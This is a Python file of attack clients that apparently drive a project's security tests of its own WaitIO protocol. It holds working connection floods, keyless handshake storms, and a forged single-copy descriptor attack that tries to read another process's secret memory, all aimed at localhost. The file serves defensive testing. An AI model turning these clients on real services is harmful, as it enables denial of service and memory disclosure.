"""Attack clients of the security tests (tests/scripts/sec_*.sh): each speaks as much of the
WaitIO wire protocol (docs/protocol.md) as its attack needs, in protocol version 3 (or 2: the
same handshake and table; 3 adds the short EAGER header, which Conn.recv reads) or, to show
an attack against a build of the old protocol, version 1 (--proto 1; waitio-info prints a build's
version). Subcommands:

  hello-storm   keyless HELLOs claiming every process id, at every given port, for S seconds
  idle-flood    N idle connections (no byte sent) held open for S seconds, reopened when closed
  hello-flood   N keyless HELLOs at one port (the start-up master), as fast as it takes them
  forge-cma     a key holder that joins a job as PB 1 and sends single-copy descriptors naming
                another process's memory (the receiver must never deliver those bytes); it
                offers the shm transport (a local socket) beside tcp

Each prints what it did as "key: value" lines that the test scripts check."""
import argparse
import ctypes
import hashlib
import hmac
import os
import select
import socket
import struct
import sys
import time

MAGIC = 0x4F495457
HDR = struct.Struct("<IBBHIIIIQQQQ")  # magic, version, type, flags, seq, credit, gid, src, tag, len, id, aux
SHORT = struct.Struct("<BBHIIIII")  # the short EAGER header (protocol 3): mark, 0, len, seq, credit, gid, src, tag
SHORT_MARK = 0xA7
HELLO, HELLO_ACK, AUTH, EAGER, RTS, CTS, DATA, CREDIT, BYE = 1, 2, 3, 4, 5, 6, 7, 8, 9
REGISTER, TABLE, ERROR, IDLE_CLOSE, SHM_OFFER, SHM_READY, ACCEPT = 10, 11, 12, 13, 14, 15, 16
FF_REJECT, FF_TRUNC, FF_NACK, FF_SHM, FF_CMA = 0x1, 0x2, 0x10, 0x20, 0x40
ID_BOOT = 0xFFFFFFFF
TP_TCP, TP_SHM = 0x1, 0x2  # transports of a table entry


def hdr(ftype, length=0, seq=0, flags=0, credit=0, gid=0, src=0, tag=0, id_=0, aux=0, proto=3):
    return HDR.pack(MAGIC, proto, ftype, flags, seq, credit, gid, src, tag, length, id_, aux)


def hello_payload(claim, target, limit=1 << 20, credit=16 << 20, nonce=None):
    return (nonce or os.urandom(32)) + struct.pack("<IIII", claim, target, limit, credit)


def keyless_hello(claim, target, proto):
    body = hello_payload(claim, target)
    return hdr(HELLO, len(body), src=claim, proto=proto) + body


def mac(key, label, msg):
    return hmac.new(key, label + msg, hashlib.sha256).digest()


def host_id():
    """The host id WaitIO puts into table entries: SHA-256 of boot id and host name."""
    with open("/proc/sys/kernel/random/boot_id", "rb") as f:
        ident = f.read(127)
    ident += socket.gethostname().encode()
    return struct.unpack("<Q", hashlib.sha256(ident).digest()[:8])[0]


class Conn:
    """One framed, authenticated connection, connector or acceptor side."""

    def __init__(self, sock, key, proto):
        self.s, self.key, self.proto = sock, key, proto
        self.tx = self.rx = 0
        self.transcript = b""

    def send(self, ftype, payload=b"", **kw):
        self.s.sendall(hdr(ftype, len(payload), seq=self.tx, proto=self.proto, **kw) + payload)
        self.tx += 1

    def recv_exact(self, n):
        out = b""
        while len(out) < n:
            chunk = self.s.recv(n - len(out))
            if not chunk:
                raise ConnectionError("closed by the peer")
            out += chunk
        return out

    def recv(self):
        first = self.recv_exact(1)
        if first[0] == SHORT_MARK:
            (_mark, _ver, length, seq, _credit, _gid, _src, _tag) = SHORT.unpack(first + self.recv_exact(SHORT.size - 1))
            ftype, flags, id_, aux = EAGER, 0, 0, 0
        else:
            f = HDR.unpack(first + self.recv_exact(HDR.size - 1))
            (_magic, _ver, ftype, flags, seq, _credit, _gid, _src, _tag, length, id_, aux) = f
        if seq != self.rx:
            raise ConnectionError(f"sequence {seq}, expected {self.rx}")
        self.rx += 1
        return ftype, flags, id_, aux, self.recv_exact(length)

    # --- handshake, connector side (registration with the master)
    def connect_handshake(self, my_id, target):
        nonce_c = os.urandom(32)
        body = hello_payload(my_id, target, nonce=nonce_c)
        self.send(HELLO, body, src=my_id)
        ftype, flags, _, _, p = self.recv()
        assert ftype == HELLO_ACK, ftype
        nonce_a, proof_a, fields = p[:32], p[32:64], p[64:76]
        if self.proto == 1:
            ids = struct.pack("<II", my_id, target)
            self.send(AUTH, mac(self.key, b"wio-con\0", nonce_c + nonce_a + ids))
            return
        self.transcript = struct.pack("<H", 0) + body + nonce_a + fields
        if not hmac.compare_digest(proof_a, mac(self.key, b"wio-acc\0", self.transcript)):
            raise ConnectionError("the acceptor failed authentication")
        self.send(AUTH, mac(self.key, b"wio-con\0", self.transcript))
        ftype, flags, _, _, _ = self.recv()
        if ftype != ACCEPT or flags & (FF_REJECT | FF_NACK):
            raise ConnectionError(f"not accepted: type {ftype} flags {flags:#x}")

    # --- handshake, acceptor side (a job process connecting to us)
    def accept_handshake(self, my_id):
        ftype, hflags, _, _, p = self.recv()
        assert ftype == HELLO and len(p) == 48, ftype
        nonce_c = p[:32]
        claim = struct.unpack("<I", p[32:36])[0]
        nonce_a = os.urandom(32)
        fields = struct.pack("<III", my_id, 1 << 20, 16 << 20)
        if self.proto == 1:
            ids = struct.pack("<II", claim, my_id)
            proof_a = mac(self.key, b"wio-acc\0", nonce_c + nonce_a + ids)
            self.send(HELLO_ACK, nonce_a + proof_a + fields, src=my_id)
            ftype, _, _, _, _ = self.recv()
            assert ftype == AUTH
            return claim
        self.transcript = struct.pack("<H", hflags) + p + nonce_a + fields
        self.send(HELLO_ACK, nonce_a + mac(self.key, b"wio-acc\0", self.transcript) + fields, src=my_id)
        ftype, _, _, _, proof_c = self.recv()
        assert ftype == AUTH
        if not hmac.compare_digest(proof_c, mac(self.key, b"wio-con\0", self.transcript)):
            raise ConnectionError("the connector failed authentication")
        self.send(ACCEPT)  # taken
        return claim

    def cma_token(self):
        """The connection's single-copy probe token (protocol 2 and later): both ends derive it."""
        return struct.unpack("<Q", mac(self.key, b"wio-cma\0", self.transcript)[:8])[0]


def entry(port, ip="127.0.0.1", hid=0, transports=TP_TCP, token=0):
    """A table entry (protocol 2 and later, 40 bytes): family, flags, port, address, host id, transports,
    shm token (src/boot/boot.c)."""
    return struct.pack("<BBH16sQB3xQ", 4, 0, port, socket.inet_aton(ip) + bytes(12), hid,
                       transports, token)


def entry_v1(port, ip="127.0.0.1", hid=0):
    """A table entry of protocol 1 (32 bytes)."""
    return struct.pack("<BBH16sQ4x", 4, 0, port, socket.inet_aton(ip) + bytes(12), hid)


# ---------------------------------------------------------------------------------------------
def hello_storm(a):
    """Keyless HELLO from every claimed id to every target id at every port, over and over: a
    round's connections all send at once, then each is read for a moment (a HELLO_ACK shows the
    target was right) and closed, since we cannot prove the key."""
    sent = answered = rounds = 0
    end = time.monotonic() + a.secs
    while time.monotonic() < end:
        socks = []
        for port in a.ports:
            for target in range(a.ids):
                for claim in range(a.ids):
                    if claim == target:
                        continue
                    try:
                        s = socket.create_connection(("127.0.0.1", port), timeout=2)
                        s.sendall(keyless_hello(claim, target, a.proto))
                        sent += 1
                        socks.append(s)
                    except OSError:
                        pass
        deadline = time.monotonic() + a.pause
        for s in socks:
            s.settimeout(max(0.001, deadline - time.monotonic()))
            try:
                if s.recv(4096):
                    answered += 1
            except OSError:
                pass
            s.close()
        rounds += 1
    print(f"keyless HELLOs sent: {sent}\nanswered with HELLO_ACK: {answered}\nrounds: {rounds}",
          flush=True)


def idle_flood(a):
    """Holds `count` connections that never send a byte; reopens those the target closes."""
    socks, opened, closed_by_target, refused = [], 0, 0, 0
    end = time.monotonic() + a.secs

    def open_one():
        nonlocal opened, refused
        s = socket.socket()
        s.setblocking(False)
        try:
            s.connect(("127.0.0.1", a.port))
        except BlockingIOError:
            pass
        except OSError:
            refused += 1
            s.close()
            return
        socks.append(s)
        opened += 1

    for _ in range(a.count):
        open_one()
    print(f"opened: {opened}", flush=True)
    while time.monotonic() < end:
        poller = select.poll()  # select() cannot watch descriptors above 1023
        byfd = {s.fileno(): s for s in socks}
        for fd in byfd:
            poller.register(fd, select.POLLIN)
        for fd, _ev in poller.poll(200):
            s = byfd[fd]
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                closed_by_target += 1
                socks.remove(s)
                s.close()
        while len(socks) < a.count and time.monotonic() < end:
            before = len(socks)
            open_one()
            if len(socks) == before:
                break
    for s in socks:
        s.close()
    print(f"idle connections opened: {opened}\nclosed by the target: {closed_by_target}\n"
          f"refused: {refused}", flush=True)


def hello_flood(a):
    """`count` keyless HELLOs at the master, `parallel` connections at a time: each sends its
    HELLO, waits for the answer (so the target has surely processed it), then is reset."""
    linger = struct.pack("ii", 1, 0)  # close with RST: no TIME_WAIT left on our side
    body = keyless_hello(ID_BOOT, ID_BOOT, a.proto)
    started = sent = answered = failed = 0
    state = {}  # fd -> [socket, phase (0 connecting, 1 sent), deadline]
    t0 = time.monotonic()
    while started < a.count or state:
        while len(state) < a.parallel and started < a.count:
            started += 1
            s = socket.socket()
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
            s.setblocking(False)
            try:
                s.connect(("127.0.0.1", a.port))
            except BlockingIOError:
                pass
            except OSError:
                failed += 1
                s.close()
                continue
            state[s.fileno()] = [s, 0, time.monotonic() + 5]
        poller = select.poll()
        for fd, (_s, phase, _d) in state.items():
            poller.register(fd, select.POLLOUT if phase == 0 else select.POLLIN)
        now = time.monotonic()
        for fd, ev in poller.poll(200):
            s, phase, _d = state[fd]
            if phase == 0:
                try:
                    s.send(body)
                    sent += 1
                    state[fd][1] = 1
                    continue
                except OSError:
                    failed += 1
            else:
                try:
                    answered += len(s.recv(4096)) > 0
                except OSError:
                    pass
            del state[fd]
            s.close()
        for fd in [fd for fd, (_s, _p, d) in state.items() if d < now]:
            state.pop(fd)[0].close()
            failed += 1
    print(f"keyless HELLOs sent: {sent}\nanswered: {answered}\nfailed connects: {failed}\n"
          f"seconds: {time.monotonic() - t0:.1f}", flush=True)


# ---------------------------------------------------------------------------------------------
def shm_listener(token):
    """A local socket where the shm transport of a process with our effective uid looks for
    the process whose table entry carries `token` (src/transport/shm.c). None if we cannot."""
    d = f"/dev/shm/waitio-{os.geteuid()}"
    try:
        os.mkdir(d, 0o700)
    except FileExistsError:
        pass
    except OSError:
        return None, None
    path = f"{d}/{token:016x}.sock"
    u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        u.bind(path)
    except OSError:
        u.close()
        return None, None
    u.listen(4)
    return u, path


def forge_cma(a):
    """Joins the job as PB 1 (process 1) with the instance key, accepts the victim's connection,
    and sends it rendezvous requests whose single-copy descriptors name (1) our own buffer,
    (2) the secret's address (protocol 1: the secret process's pid and address).
    The victim echoes every message; we report which echoes contain the secret.

    Protocol 2 reads in place only through the shm transport, from the process at the other end
    of its local socket: we offer shm (a socket in /dev/shm/waitio-<our euid>) and tcp, and
    report which one the victim connected over. Another user's victim never finds our socket
    (its directory is its own) and falls back to tcp, which never reads in place."""
    key = os.environ["WAITIO_KEY"].encode()
    me = os.getpid()
    size = a.size
    mine = ctypes.create_string_buffer(b"M" * size, size)
    probe = ctypes.create_string_buffer(16)
    lsn = socket.socket()
    lsn.bind(("127.0.0.1", 0))
    lsn.listen(4)
    port = lsn.getsockname()[1]
    token = struct.unpack("<Q", os.urandom(8))[0] | 1
    local, path = shm_listener(token) if a.proto >= 2 else (None, None)
    transports = TP_TCP | (TP_SHM if local else 0)
    # register with the master: npb 2, PB 1, rank 0 of 1
    m = Conn(socket.create_connection(("127.0.0.1", a.master_port), timeout=10), key, a.proto)
    m.connect_handshake(ID_BOOT, ID_BOOT)
    if a.proto == 1:
        m.send(REGISTER, struct.pack("<IIII", 2, 1, 0, 1) + entry_v1(port, hid=host_id()))
    else:
        m.send(REGISTER, struct.pack("<IIII", 2, 1, 0, 1) +
               entry(port, hid=host_id(), transports=transports, token=token))
    ftype, _, _, _, _ = m.recv()
    assert ftype == TABLE, f"master answered {ftype}"
    m.s.close()
    print("registered as process 1", flush=True)
    ready, _, _ = select.select([x for x in (lsn, local) if x], [], [], 20)
    if not ready:
        raise SystemExit("the victim never connected")
    over = "shm" if ready[0] is local else "tcp"
    s, _ = ready[0].accept()
    if path:
        os.unlink(path)
    s.settimeout(20)
    c = Conn(s, key, a.proto)
    victim = c.accept_handshake(1)
    if over == "shm":
        c.send(SHM_OFFER)  # no segment: the frames stay on the local socket
    print(f"process {victim} connected over {over}; authenticated", flush=True)
    token = c.cma_token() if a.proto >= 2 else 0x5EC0DE5EC0DE5EC0
    probe.raw = struct.pack("<Q", token) + bytes(8)
    paddr = ctypes.addressof(probe)

    def desc(pid, addr):
        if a.proto == 1:
            return struct.pack("<QQQQ", pid, addr, paddr, token)
        return struct.pack("<QQ", addr, size)

    cases = [("own buffer", desc(me, ctypes.addressof(mine))),
             ("secret", desc(a.secret_pid, a.secret_addr))]
    leaked = 0
    for i, (name, d) in enumerate(cases):
        c.send(RTS, d, flags=FF_CMA, gid=a.gid, src=1, tag=i, id_=1000 + i, aux=size)
        echo = None
        single = None
        while echo is None:
            ftype, flags, id_, aux, p = c.recv()
            if ftype == CTS:
                single = bool(flags & FF_CMA)
                if not single:  # the copy path: we send our own bytes
                    c.send(DATA, b"D" * size, id_=aux, aux=0)
            elif ftype == EAGER:
                echo = p
            elif ftype == BYE:
                raise SystemExit("the victim finalized early")
        has_secret = a.secret_marker.encode() in echo
        leaked += has_secret
        print(f"case {name}: read in place: {'yes' if single else 'no'}; echo "
              f"{'CONTAINS THE SECRET' if has_secret else 'clean'} "
              f"({echo[:4]!r}...)", flush=True)
    print(f"secret echoed back: {leaked} of {len(cases) - 1}", flush=True)
    try:
        while True:
            ftype, _, _, _, _ = c.recv()
            if ftype == BYE:
                break
    except (ConnectionError, socket.timeout):
        pass
    c.send(BYE)
    s.close()


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--proto", type=int, default=3, choices=(1, 2, 3))
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("hello-storm")
    p.add_argument("--ids", type=int, required=True)
    p.add_argument("--secs", type=float, required=True)
    p.add_argument("--pause", type=float, default=0.1)
    p.add_argument("ports", type=int, nargs="+")
    p = sub.add_parser("idle-flood")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--secs", type=float, required=True)
    p = sub.add_parser("hello-flood")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--parallel", type=int, default=64)
    p = sub.add_parser("forge-cma")
    p.add_argument("--master-port", type=int, required=True)
    p.add_argument("--secret-pid", type=int, required=True)
    p.add_argument("--secret-addr", type=lambda x: int(x, 0), required=True)
    p.add_argument("--secret-marker", required=True)
    p.add_argument("--size", type=int, default=4096)
    p.add_argument("--gid", type=int, default=5)
    a = ap.parse_args()
    {"hello-storm": hello_storm, "idle-flood": idle_flood, "hello-flood": hello_flood,
     "forge-cma": forge_cma}[a.cmd](a)


if __name__ == "__main__":
    main()
